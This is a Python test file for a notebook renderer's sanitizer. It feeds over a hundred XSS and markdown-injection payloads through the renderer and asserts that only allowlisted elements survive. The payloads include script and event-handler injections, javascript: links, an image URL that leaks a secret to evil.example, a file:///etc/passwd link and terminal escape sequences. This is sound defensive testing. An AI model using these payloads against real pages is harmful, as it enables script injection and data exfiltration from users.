"""Text that attacks the page: whatever a model or a server says, only harmless elements come out."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from venice_nb.render import html, text
from venice_nb.render.markdown import Growing, to_html

_ELEMENTS = """
div p h1 h2 h3 h4 h5 h6 ul ol li strong em s code pre blockquote table thead tbody tr th td a sup small span
br hr
"""
HARMLESS = set(_ELEMENTS.split())
ATTRIBUTES = {"class", "href", "title", "rel", "target", "start", "scope"}

RAW = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/src=data:,alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/p.png>",
    "<img/src=x/onerror=alert(1)//",
    "<IMG SRC=`javascript:alert(1)`>",
    "<img srcset='https://evil.example/p.png 1x'>",
    "<picture><source srcset=https://evil.example/p.png></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,x#a'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object>",
    "<embed src='https://evil.example'>",
    "<video src=https://evil.example/x autoplay onplay=alert(1)></video>",
    "<video poster=https://evil.example/p.png></video>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<style>body{background:url(https://evil.example/p.png)}</style>",
    "<div style='background:url(https://evil.example/p.png)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:99999'>x</div>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<body background=https://evil.example/p.png onload=alert(1)>",
    "<table background=https://evil.example/p.png><tr><td>x</td></tr></table>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=key><button>send</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button data-commandlinker-command='notebook:run-all-cells'>Free tokens</button>",
    "<a data-commandlinker-command='filebrowser:delete' href='#'>x</a>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=https://evil.example ping=https://evil.example/ping>x</a>",
    "<x-custom onclick=alert(1)>x</x-custom>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</div></div></body><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\<script\\>alert(1)\\</script\\>",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\x1b[31mscript>alert(1)</script>",
    "<\u202escript>alert(1)</script>",
    "\ud83d<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "$\\href{javascript:alert(1)}{x}$ \\(\\unicode{<img src=x onerror=alert(1)>}\\)",
    "$<script>alert(1)</script>$",
    "\\begin{a}<img src=x onerror=alert(1)>\\end{a}",
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    "\x1b[2J\x1b]52;c;ZXZpbA==\x07",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](%6Aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/x)",
    "[x](//evil.example)",
    "[x](/hub/logout)",
    "[x](../other.ipynb)",
    "[x](#settings)",
    "[x](\\\\evil.example\\share)",
    "[x](https:evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](https://bank.example@evil.example)",
    "[x](https://evil.example\\@bank.example)",
    '[x](https://evil.example/"onmouseover=alert(1))',
    '[x](https://evil.example "t\\" onmouseover=alert(1) x=\\"")',
    "[x](https://evil.example 'a\" onclick=\"alert(1)')",
    "[<img src=x onerror=alert(1)>](https://evil.example)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: https://evil.example \"' onclick='alert(1)\"",
    "[r]\n\n[r]: data:text/html,x",
    "<javascript:alert(1)>",
    "<https://evil.example/<script>>",
    "<a@b.example>",
    "https://evil.example/<script>alert(1)</script>",
    "![x](https://evil.example/leak?q=secret)",
    '![x](https://evil.example/p.png "t" onerror=alert(1))',
    '![x" onerror="alert(1)](https://evil.example/p.png)',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](//evil.example/p.png)",
    "![x](http:evil.png)",
    "![![x](https://evil.example/a.png)](https://evil.example/b.png)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "![r]\n\n[r]: <https://evil.example/p.png>",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onclick=alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "~~~<img src=x onerror=alert(1)>\nx\n~~~",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "- [x] <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| a |\n|:-:" onclick=alert(1)|\n| b |',
    "**<b onmouseover=alert(1)>x</b>**",
    "*a<script>b*c</script>*",
    "x^1^<script>alert(1)</script>",
    "[x^1^](javascript:alert(1))^1^",
    "[REF]0[/REF]<img src=x onerror=alert(1)>[REF]99999999999999999999[/REF]",
    "[REF]: javascript:alert(1)\n\n[REF]0[/REF]",
    "<think><script>alert(1)</script></think>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<pre>\n<script>alert(1)</script>",
]  # fmt: skip
PAYLOADS = RAW + MARKDOWN


class Judge(HTMLParser):
    """Reads HTML as a browser would and collects what must not be there."""

    def __init__(self, tags, attributes):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.found = tags, attributes, []

    def handle_starttag(self, tag, attrs):
        if tag not in self.tags:
            self.found.append(tag)
        for name, value in attrs:
            if name not in self.attributes:
                self.found.append(f"{tag} {name}={value}")
            parts = urlsplit(value or "") if name == "href" else None
            if parts and (parts.scheme not in {"http", "https", "mailto"} or "@" in parts.netloc):
                self.found.append(f"href {value}")
            if name == "src" and urlsplit(value).scheme != "https":
                self.found.append(f"src {value}")

    def handle_comment(self, data):
        self.found.append(f"comment {data}")

    def handle_decl(self, decl):
        self.found.append(f"declaration {decl}")

    def handle_pi(self, data):
        self.found.append(f"instruction {data}")


def verdict(markup, tags=frozenset(HARMLESS), attributes=frozenset(ATTRIBUTES)):
    judge = Judge(tags, attributes)
    judge.feed(markup)
    judge.close()
    return judge.found


def test_the_judge_knows_bad_from_good():
    """Every kind of harm is found, so that an empty verdict means something."""
    assert verdict("<p class='a'>fine <a href='https://a.b'>x</a></p>") == []
    for bad in (
        "<script>x</script>",
        "<img src=x>",
        "<p onclick=x>",
        "<a href='javascript:x'>",
        "<!-- x -->",
        "<p style=x>",
    ):
        assert verdict(bad), bad


def test_there_are_enough_attacks():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 100


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_lets_nothing_through(payload):
    sources = [
        {"title": payload, "url": payload},
        {"title": payload, "url": f"https://evil.example/{payload}"},
    ]
    for markdown in (payload, f"text {payload} text^1^ [REF]1[/REF]", f"- a\n\n  {payload}\n\n> {payload}"):
        assert verdict(to_html(markdown, citations=sources)) == []
        assert verdict(Growing().to_html(markdown, citations=sources)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_allowed_pictures_allow_nothing_else(payload):
    drawn = to_html(payload, allow_images=True)
    assert verdict(drawn, HARMLESS | {"img"}, ATTRIBUTES | {"src", "alt", "loading", "referrerpolicy"}) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_pieces_escape_what_they_are_given(payload):
    made = html.join(
        html.card(payload, payload, footer=payload),
        html.table([payload], [[payload]], caption=payload),
        html.details(payload, html.plain(payload)),
        html.facts([(payload, payload)]),
        html.link(payload, payload),
        html.link(f"https://evil.example/{payload}"),
        html.tag("p", title=payload, class_=payload),
    )
    assert verdict(made, HARMLESS | {"section", "caption", "details", "summary", "dl", "dt", "dd"}) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaned_text_drives_no_terminal_and_turns_no_letters(payload):
    for shown in (text.clean(payload), text.short(payload)):
        assert not any(
            (ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160 or c in "\u202a\u202b\u202c\u202d\u202e"
            for c in shown
        )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_beginning_of_an_attack_is_harmless_too(payload):
    """While an answer streams, half of an attack stands on the page."""
    for end in range(1, len(payload), 5):
        assert verdict(to_html(payload[:end])) == []
